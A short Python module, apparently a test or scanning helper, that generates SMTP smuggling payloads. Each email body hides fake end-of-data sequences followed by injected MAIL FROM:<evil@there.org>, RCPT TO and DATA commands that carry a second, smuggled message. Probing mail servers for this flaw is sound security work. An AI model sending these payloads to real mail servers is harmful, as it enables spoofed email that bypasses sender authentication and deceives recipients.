"""Letters with a second letter inside, behind every line end and every dot that some server might take for the end."""

import itertools

ENDS = [b"\n", b"\r", b"\r\n", b"\0", b"\n\0"]
ENDINGS = [
    before + dots + after
    for before, dots, after in itertools.product(ENDS, [b".", b"..", b".\0"], ENDS)
    if not (before == after == b"\r\n" and dots == b".")
]
"""What may stand between the outer letter and the inner; the true end, CR LF dot CR LF, is not among them."""


def inner(recipient: str) -> bytes:
    """Commands and a letter, as they would be read if what stands before them were the end of a letter."""
    commands = f"MAIL FROM:<evil@there.org>\r\nRCPT TO:<{recipient}>\r\nDATA\r\n"
    return commands.encode() + b"Subject: smuggled\r\n\r\nx"


def outer(ending: bytes, recipient: str, subject: str = "outer") -> bytes:
    """A letter that ends, to a server that reads `ending` so, before its second half."""
    head = f"From: a@there.org\r\nMessage-ID: <{subject}@there.org>\r\nSubject: {subject}\r\n\r\nx"
    return head.encode() + ending + inner(recipient)
